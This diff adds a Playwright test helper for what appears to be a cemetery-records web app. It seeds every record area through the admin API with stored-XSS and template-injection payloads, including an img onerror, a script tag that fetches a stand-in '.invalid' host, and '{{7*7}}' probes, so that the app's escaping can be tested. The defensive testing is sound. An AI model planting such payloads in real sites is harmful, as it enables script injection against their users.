@@ -1,0 +1,105 @@
+import type { APIRequestContext } from '@playwright/test'
+import type { AnyArea } from '../../core/area'
+import type { Field, RowsField } from '../../core/fields'
+import { tokenOf } from './people'
+
+/** Where nothing of the product ever goes. */
+export const elsewhere = 'payload.invalid'
+/** Runs where it is taken for markup, and then says so to somebody else. */
+const whole = `"'><img src=//${elsewhere}/i onerror="window.ran=1"><script>window.ran=1;fetch('//${elsewhere}')</script>{{7*7}}\${7*7}`
+const short = '<img src=x onerror=window.ran=1>'
+
+const payload = (max: number) =>
+  [whole, short, '<b onclick=1>', '<i>'].find((text) => [...text].length <= max) ?? '<'
+
+/**
+ * One record of every area in this cemetery, with markup in whatever text it takes: its fields, its rows,
+ * a note and a tag. Fields that a rule refuses are left out, those that are required stay plain.
+ * @returns how many fields hold a payload
+ */
+export async function fillHostile(
+  request: APIRequestContext,
+  cemetery: number,
+  areas: readonly AnyArea[],
+): Promise<number> {
+  const headers = { authorization: `Bearer ${await tokenOf(request, 'admin')}` }
+  const base = `/api/v1/cemeteries/${cemetery}`
+  const made = new Map<string, number>()
+  /** Under way: a bundle's parts are price items, which would have parts. */
+  const making = new Set<string>()
+  let filled = 0
+  let serial = 0
+
+  const send = async (name: string, data: object) => {
+    const answer = await request.post(`${base}/${name}`, { headers, data })
+    return { status: answer.status(), json: await answer.json() }
+  }
+  const idOf = async (name: string): Promise<number> => {
+    const known = made.get(name)
+    if (known) return known
+    const area = areas.find((one) => one.name === name)
+    if (!area) throw new Error(`no area ${name}`)
+    making.add(name)
+    const body: Record<string, unknown> = { ...(await valuesOf(area.fields)), ...own[name] }
+    let last = ''
+    for (let tries = 0; tries < 20; tries++) {
+      const { status, json } = await send(name, body)
+      if (status === 201) {
+        filled += JSON.stringify(body).split('<').length > 1 ? 1 : 0
+        made.set(name, json.id)
+        return json.id
+      }
+      last = JSON.stringify(json)
+      const refused = (json.errors ?? []).map((one: { field: string }) => one.field.split('.')[0])
+      if (refused.length === 0) throw new Error(`${name}: ${status} ${JSON.stringify(json)}`)
+      for (const field of refused)
+        if (area.fields[field]?.required) body[field] = `Plain ${++serial}`
+        else delete body[field]
+    }
+    throw new Error(`${name} takes nothing: ${JSON.stringify(body)} ${last}`)
+  }
+  const valuesOf = async (fields: Record<string, Field>) => {
+    const values: Record<string, unknown> = {}
+    for (const [name, field] of Object.entries(fields)) {
+      if (field.readOnly) continue
+      const value = await oneOf(field)
+      if (value !== undefined) values[name] = value
+    }
+    return values
+  }
+  const isCircle = ({ fields }: RowsField) =>
+    Object.values(fields).some(
+      (one) => one.required && one.kind === 'ref' && making.has(one.to) && !made.has(one.to),
+    )
+  const oneOf = async (field: Field): Promise<unknown> => {
+    if (field.kind === 'text') return payload(field.max ?? 10_000)
+    if (field.kind === 'rows') return isCircle(field) ? undefined : [await valuesOf(field.fields)]
+    if (field.kind === 'partialDate') return '<i>abt 1890'
+    if (!field.required) return undefined
+    if (field.kind === 'ref') return idOf(field.to)
+    if (field.kind === 'refs') {
+      // Its own: a space that is owned already can be nobody else's.
+      made.delete(field.to)
+      return [await idOf(field.to)]
+    }
+    if (field.kind === 'number' || field.kind === 'money') return field.min ?? 1
+    if (field.kind === 'date') return '2026-03-01'
+    if (field.kind === 'choice') return field.choices[0]
+    return undefined
+  }
+  for (const { name, derived } of areas) {
+    if (derived) continue
+    const id = await idOf(name)
+    await send(`${name}/${id}/notes`, { text: whole })
+  }
+  return filled
+}
+
+/** What the rules of an area ask beyond its fields. */
+const own: Record<string, Record<string, unknown>> = {
+  'number-templates': { template: 'X-{000}', effectiveFrom: '9000-01-01' },
+  contacts: { kind: 'person' },
+  transactions: { amount: 100 },
+  // A condition names fields, and nothing is made of what names none.
+  'dynamic-forms': { whenField: undefined, whenIs: undefined },
+}
